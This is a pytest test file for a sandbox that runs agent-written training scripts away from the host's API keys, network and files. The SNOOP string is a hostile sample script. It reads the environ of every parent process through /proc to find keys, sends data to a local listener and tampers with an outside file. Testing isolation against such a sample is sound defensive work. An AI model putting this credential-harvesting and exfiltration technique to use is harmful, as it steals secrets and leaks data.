"""The trainer's clean room: a script the agent wrote, launched the way golf launches it, looks for our
keys (its own environment, /proc/<parent>/environ up the whole chain) and for a network, and finds neither."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from tools import cleanroom

ROOT = Path(__file__).resolve().parents[1]
KEY = "sk-test-cleanroom-5f1e9a"

# what a hostile edit would add to the trainer: look everywhere it can for a key, then phone home
SNOOP = textwrap.dedent("""
    import json, os, socket, sys
    found = {"own_env": dict(os.environ), "parents": {}, "net": None}
    pid = os.getppid()
    for _ in range(32):
        if pid <= 0:
            break
        try:
            found["parents"][pid] = open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace")
        except OSError as e:
            found["parents"][pid] = f"unreadable: {e.strerror}"
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
    try:
        with socket.create_connection(("127.0.0.1", int(os.environ["LISTEN_PORT"])), timeout=3) as s:
            s.sendall(b"exfiltrated")
            found["net"] = "connected"
    except OSError as e:
        found["net"] = f"refused: {e}"
    try:
        open(os.environ["VICTIM"], "w").write("tampered")
        found["wrote_outside"] = True
    except OSError as e:
        found["wrote_outside"] = f"refused: {e}"
    open(os.path.join(os.environ["RUN_DIR"], "found.json"), "w").write(json.dumps(found))
""")

# golf's part, in a process of its own that starts with the key in its environment (as `golf run` does)
GOLF = textwrap.dedent("""
    import sys
    from pathlib import Path
    from tools.sweep import run_trainer
    run_dir = Path(sys.argv[1])
    run_trainer(Path(sys.argv[2]).read_text(), {"RUN_DIR": str(run_dir), "LISTEN_PORT": sys.argv[3],
                                                "VICTIM": sys.argv[4]}, run_dir, nproc=1, timeout_s=60)
""")


@pytest.fixture()
def listener():
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen()
    srv.settimeout(0.5)
    yield srv
    srv.close()


def test_a_hostile_script_finds_no_key_and_no_connection(tmp_path, listener):
    iso = cleanroom.probe(sys.executable)
    if iso.degraded:
        pytest.skip(f"this machine cannot isolate ({iso.mode}): {iso.note}")
    (tmp_path / "snoop.py").write_text(SNOOP)
    env = dict(os.environ, OPENAI_API_KEY=KEY, GITHUB_TOKEN=KEY + "-gh", PYTHONPATH=str(ROOT))
    r = subprocess.run(
        [
            sys.executable,
            "-c",
            GOLF,
            str(tmp_path / "run"),
            str(tmp_path / "snoop.py"),
            str(listener.getsockname()[1]),
            str(tmp_path / "victim.txt"),
        ],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert r.returncode == 0, r.stderr
    found_text = (tmp_path / "run" / "found.json").read_text()
    found = json.loads(found_text)
    assert KEY not in found_text
    assert "OPENAI_API_KEY" not in found["own_env"] and "PYTHONPATH" not in found["own_env"]
    assert found["net"].startswith("refused")
    with pytest.raises(socket.timeout):
        listener.accept()  # nothing ever arrived
    if iso.read_only_fs:  # the data, the project and the ledger are out of the trainer's reach too
        assert found["wrote_outside"].startswith("refused") and not (tmp_path / "victim.txt").exists()


def test_the_snoop_would_find_the_key_without_the_clean_room(tmp_path, listener):
    """The control: the same script as a plain child of a process holding the key finds it at once."""
    (tmp_path / "snoop.py").write_text(SNOOP)
    (tmp_path / "run").mkdir()
    env = dict(
        os.environ,
        OPENAI_API_KEY=KEY,
        RUN_DIR=str(tmp_path / "run"),
        LISTEN_PORT=str(listener.getsockname()[1]),
        VICTIM=str(tmp_path / "victim.txt"),
    )
    subprocess.run([sys.executable, str(tmp_path / "snoop.py")], env=env, check=True, timeout=60)
    found = json.loads((tmp_path / "run" / "found.json").read_text())
    assert found["own_env"]["OPENAI_API_KEY"] == KEY and found["net"] == "connected"
    assert found["wrote_outside"] is True


def test_the_trainer_environment_is_the_allow_list(tmp_path):
    host = {
        "PATH": "/usr/bin",
        "LANG": "C.UTF-8",
        "OPENAI_API_KEY": KEY,
        "AWS_SECRET_ACCESS_KEY": "x",
        "PYTHONPATH": "/tmp/planted",
        "LD_PRELOAD": "/tmp/x.so",
        "OMP_NUM_THREADS": "3",
    }
    env = cleanroom.trainer_env(host, {"NUM_LAYERS": "2"}, tmp_path, passthrough=["OMP_NUM_THREADS"])
    assert set(env) <= {
        "PATH",
        "LANG",
        "HOME",
        "TMPDIR",
        "PYTHONUSERBASE",
        "PYTHONUNBUFFERED",
        "NUM_LAYERS",
        "OMP_NUM_THREADS",
    }
    assert env["OMP_NUM_THREADS"] == "3" and env["HOME"] == str(tmp_path / "home")


def test_torch_and_two_process_ddp_run_in_the_clean_room(tmp_path):
    """torch.distributed's rendezvous needs a loopback: the room brings its own up, nothing else."""
    script = textwrap.dedent("""
        import os, torch, torch.distributed as dist
        dist.init_process_group("gloo")
        t = torch.ones(1) * (dist.get_rank() + 1)
        dist.all_reduce(t)
        if dist.get_rank() == 0:
            open(os.path.join(os.environ["RUN_DIR"], "results.json"), "w").write(
                '{"status": "ok", "val_bpb": %f}' % float(t))
        dist.destroy_process_group()
    """)
    from tools.sweep import run_trainer

    result, _ = run_trainer(
        script, {"RUN_DIR": str(tmp_path), "OMP_NUM_THREADS": "1"}, tmp_path, nproc=2, timeout_s=180
    )
    assert result.status == "ok" and result.val_bpb == 3.0, result.error


def test_a_machine_that_cannot_isolate_says_so(tmp_path):
    code = "from tools.cleanroom import probe; i = probe(); print(i.mode, i.degraded, i.network_isolated)"
    r = subprocess.run(
        [sys.executable, "-c", code],
        env=dict(os.environ, PGOLF_CLEANROOM="off", PYTHONPATH=str(ROOT)),
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    assert r.stdout.split() == ["none", "True", "False"]
